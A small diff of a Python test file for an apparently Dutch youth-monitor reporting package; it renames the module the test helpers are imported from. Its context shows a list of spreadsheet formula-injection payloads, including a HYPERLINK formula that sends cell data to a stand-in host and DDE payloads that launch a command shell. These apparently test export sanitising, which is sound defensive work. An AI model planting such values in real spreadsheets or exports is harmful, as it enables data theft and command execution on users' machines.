@@ -16,7 +16,7 @@ from jeugdmonitor.definitions import config
 from jeugdmonitor.report import accountability, downloads, formatting, local, subject
 from jeugdmonitor.report.inputs import STATUS_LEGEND
 
-from ..report.test_municipal import _inputs, _row
+from ..report.helpers import _inputs, _row
 
 HOSTILE = ['=HYPERLINK("http://x.example/?"&A1;"klik")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
            "\t=1+1", "\r=1+1", '=DDE("cmd";"/C calc";"!A0")']
